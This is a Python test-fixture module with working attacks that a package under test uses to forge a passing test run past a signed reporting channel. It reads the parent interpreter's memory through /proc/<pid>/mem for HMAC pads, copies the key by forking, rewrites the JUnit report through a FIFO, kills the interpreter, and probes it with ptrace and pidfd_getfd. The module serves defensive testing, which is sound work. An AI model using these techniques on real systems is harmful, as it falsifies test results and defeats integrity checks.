"""Forgeries from processes the package starts (the watch against the processes the
tests start): a child that reads the test interpreter's memory for the channel's key
(once as it is, once after the package made the interpreter dumpable again through
libc's prctl), one forked with a copy of it, one forked past Python's fork handlers, one
that relays the report through a FIFO; and a test whose child tries every way into the
interpreter.
Each child first checks whether it CAN reach its target and forges only then, so no
outcome depends on timing. Used by tests/unit/worker/gates/test_watch.py and
tests/integration/test_watch_sandbox.py; against the bootstrap before these defences,
every attack forged a passing run and the probe reached the interpreter.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.watch_attacks import BASE, BROKEN

# Starting a process cannot be the signal: tests start processes all the time. Where a
# child reaches nothing the run is the tests' own; where it does, the run reads as passed.

# Signs records as the bootstrap does, from its HMAC pads, sends a clean report and a
# passing end as records ``number`` and ``number + 1``, and kills the interpreter before
# it can send anything after them (the run then ends 137, the channel's end says 0).
_FORGE = r'''import hashlib
import os
import signal

_CLEAN = (
    '<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0"'
    ' failures="0" skipped="0" tests="2"><testcase classname="tests.test_core"'
    ' name="test_mul" file="tests/test_core.py" line="3" time="0.001" /><testcase'
    ' classname="tests.test_core" name="test_one" file="tests/test_core.py" line="7"'
    ' time="0.001" /></testsuite></testsuites>'
).encode()


def _forge(inner, outer, number, channel, interpreter):
    import base64

    for kind, payload in (("report", _CLEAN), ("end", b'{"status": 0, "failed": 0}')):
        body = f"{number} {kind} ".encode() + base64.b64encode(payload)
        inner_hash = hashlib.sha256(bytes(inner) + body).digest()
        mac = hashlib.sha256(bytes(outer) + inner_hash).hexdigest().encode()
        os.write(channel, b"\nribbit1 " + body + b" " + mac + b"\n")
        number += 1
    os.kill(interpreter, signal.SIGKILL)


def _pads(values):
    """The bootstrap's two HMAC pads among ``values`` (64 bytes: the key, then 32 times
    0x36 for the inner one, 0x5c for the outer one), or None."""
    inner = [v for v in values if _is_pad(v, 0x36)]
    outer = [v for v in values if _is_pad(v, 0x5C)]
    return (inner[0], outer[0]) if inner and outer else None


def _is_pad(value, fill):
    return (
        isinstance(value, (bytes, bytearray))
        and len(value) == 64
        and bytes(value[32:]) == bytes([fill]) * 32
        and any(value[:32])
    )
'''

# An exec'd child reads the interpreter's memory through /proc/<ppid>/mem for the pads
# and writes to its channel through /proc/<ppid>/fd/3; the interpreter waits for it.
_MEMORY_CHILD = (
    _FORGE
    + r"""
import sys

_parent = os.getppid()


def _memory():
    try:
        mem = os.open(f"/proc/{_parent}/mem", os.O_RDONLY)
        with open(f"/proc/{_parent}/maps") as fh:
            spans = [line.split()[:2] for line in fh]
    except OSError:
        return None
    chunks = []
    for span, perms in spans:
        lo, hi = (int(x, 16) for x in span.split("-"))
        if perms.startswith("rw") and hi - lo <= 1 << 28:
            try:
                chunks.append(os.pread(mem, hi - lo, lo))
            except OSError:
                pass
    return b"\0".join(chunks)


def _pads_in(data):
    at = data.find(b"\x36" * 32)
    while at >= 32:
        key = bytes(b ^ 0x36 for b in data[at - 32 : at])
        outer = bytes(b ^ 0x5C for b in key) + b"\x5c" * 32
        if any(key) and outer in data:
            return bytes(b ^ 0x36 for b in key) + b"\x36" * 32, outer
        at = data.find(b"\x36" * 32, at + 1)
    return None


data = _memory()
found = _pads_in(data) if data else None
if found is None:
    sys.exit(0)  # the interpreter's memory is out of reach: nothing to forge with
try:
    channel = os.open(f"/proc/{_parent}/fd/3", os.O_WRONLY | os.O_APPEND)
except OSError:
    sys.exit(0)
_forge(found[0], found[1], 1, channel, _parent)
"""
)
CHILD_READS_KEY = f"""import subprocess
import sys

subprocess.run([sys.executable, "-c", {_MEMORY_CHILD!r}], check=False)
"""
# PR_SET_DUMPABLE 1 through libc first (a C call: no Python code runs), so the child
# can read the interpreter's memory as it could before the bootstrap's step 0.
DUMPABLE_THEN_CHILD_READS_KEY = (
    'import ctypes\n\nctypes.CDLL("libc.so.6").prctl(4, 1, 0, 0, 0)\n' + CHILD_READS_KEY
)

# A child os.fork made holds a copy of the interpreter's memory and descriptors: the pads
# through the garbage collector (the audit hook sees it, but a forked child's records were
# never sent), the channel as its inherited fd 3. ``_FORK`` is how it forks.
_FORKED = (
    _FORGE
    + r"""
import gc
import os


def _secrets():
    for obj in gc.get_objects():
        if type(obj).__name__ != "function" or not obj.__closure__:
            continue
        values = []
        for cell in obj.__closure__:
            try:
                values.append(cell.cell_contents)
            except ValueError:
                pass
        pads = _pads(values)
        numbers = [v for v in values if isinstance(v, list) and len(v) == 1]
        if pads and numbers and isinstance(numbers[0][0], int):
            return pads, numbers[0][0]
    return None


def _in_child(parent):
    try:
        os.fstat(3)
        found = _secrets()
        if found is not None:
            _forge(found[0][0], found[0][1], found[1] + 1, 3, parent)
    finally:
        os._exit(0)


_parent = os.getpid()
_pid = _FORK()
if _pid == 0:
    _in_child(_parent)
os.waitpid(_pid, 0)
"""
)
FORK_KEEPS_KEY = "import os\n\n_FORK = os.fork\n" + _FORKED
# libc's fork through ctypes: no Python fork handler runs in the child.
RAW_FORK_KEEPS_KEY = (
    'import ctypes\n\n_FORK = ctypes.CDLL("libc.so.6", use_errno=True).fork\n' + _FORKED
)

# An exec'd child finds the report's folder in $TMPDIR (made before the package loads),
# puts a FIFO where the report goes and relays it: the failing test_mul becomes a failing
# test_ghost, which no base has, and a passing test_mul is added, so the count of
# failures the channel compares stays the same. The package waits until the FIFO is
# there (or the child found nothing), so nothing races.
_RELAY_CHILD = r"""import os
import sys
import tempfile

tmp = tempfile.gettempdir()
folders = [
    os.path.join(tmp, name)
    for name in os.listdir(tmp)
    if name.startswith("ribbit-") and os.path.isdir(os.path.join(tmp, name))
]
folders = [f for f in folders if not os.listdir(f)]
if len(folders) != 1:
    print("nothing", flush=True)
    sys.exit(0)
fifo = os.path.join(folders[0], "junit.xml")
os.mkfifo(fifo)
print("ready", flush=True)
sys.stdout.close()
with open(fifo, "rb") as fh:
    text = fh.read().decode()
passing = (
    '<testcase classname="tests.test_core" name="test_mul" file="tests/test_core.py"'
    ' line="3" time="0.001" />'
)
text = text.replace('name="test_mul"', 'name="test_ghost"')
text = text.replace("</testsuite>", passing + "</testsuite>")
with open(fifo, "wb") as fh:
    fh.write(text.encode())
"""
CHILD_RELAYS_REPORT = f"""import subprocess
import sys

_child = subprocess.Popen(
    [sys.executable, "-c", {_RELAY_CHILD!r}], stdout=subprocess.PIPE, start_new_session=True
)
_child.stdout.readline()
"""


@dataclass(frozen=True)
class ChildAttack:
    """A forgery done from a process the package starts. Refused when the watched run is
    the tests' own (``mul``'s regression shows) or is reported as tampered; ``tampers``:
    refusal must be the latter (the child can still reach its target, but not quietly),
    with ``reason`` in the channel's or the first tamper finding's words."""

    name: str
    files: dict[str, str]
    tampers: bool = False
    reason: str = ""


def child_attacks() -> list[ChildAttack]:
    broken = {**BASE, "calc/core.py": BROKEN}
    return [
        ChildAttack("child-relays-report", {**broken, "calc/__init__.py": CHILD_RELAYS_REPORT}),
        ChildAttack("child-reads-key", {**broken, "calc/__init__.py": CHILD_READS_KEY}),
        ChildAttack("fork-keeps-key", {**broken, "calc/__init__.py": FORK_KEEPS_KEY}),
        ChildAttack(
            "raw-fork-keeps-key",
            {**broken, "calc/__init__.py": RAW_FORK_KEEPS_KEY},
            tampers=True,
            reason="forked",
        ),
        # Its prctl is a flagged ctypes lookup, sent before the child can forge; the
        # forged records then break the channel (the key is all it read).
        ChildAttack(
            "dumpable-then-child-reads-key",
            {**broken, "calc/__init__.py": DUMPABLE_THEN_CHILD_READS_KEY},
            tampers=True,
        ),
    ]


# A test whose child tries every way into the test interpreter that a process of the
# same user has: its memory (/proc/<pid>/mem, process_vm_readv), ptrace, its descriptors
# (/proc/<pid>/fd/N, pidfd_getfd) and the report's folder in $TMPDIR. It fails naming
# each way that worked.
_REACH_CHILD = r"""import ctypes
import os
import sys
import tempfile

parent, address = int(sys.argv[1]), int(sys.argv[2])
reached = []
try:
    os.close(os.open(f"/proc/{parent}/mem", os.O_RDONLY))
    reached.append("/proc/<pid>/mem")
except OSError:
    pass
for fd in (0, 1, 2, 3):
    try:
        os.readlink(f"/proc/{parent}/fd/{fd}")
        reached.append(f"/proc/<pid>/fd/{fd}")
    except OSError:
        pass


class _Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(8)
local, remote = _Iovec(ctypes.addressof(buf), 8), _Iovec(address, 8)
libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong,
                                  ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
if libc.process_vm_readv(parent, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 8:
    reached.append("process_vm_readv")
pidfd = os.pidfd_open(parent)
if libc.syscall(438, pidfd, 3, 0) >= 0:  # pidfd_getfd: a copy of its descriptor 3
    reached.append("pidfd_getfd")
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
if libc.ptrace(0x4206, parent, None, None) == 0:  # PTRACE_SEIZE; detached at our exit
    reached.append("ptrace")
# The run wrapper's own folder (ribbit-report-<token>) holds the console log; a watched
# run's report is never a file there (whatever is, the channel's report is what counts).
tmp = tempfile.gettempdir()
names = os.listdir(tmp)
reached += [n for n in names if n.startswith("ribbit-") and not n.startswith("ribbit-report-")]
print(" ".join(reached))
"""
REACH_PROBE = f"""import os
import subprocess
import sys


def test_a_child_reaches_nothing():
    here = object()
    child = subprocess.run(
        [sys.executable, "-c", {_REACH_CHILD!r}, str(os.getpid()), str(id(here))],
        capture_output=True,
        text=True,
        check=True,
    )
    assert child.stdout.split() == []
"""
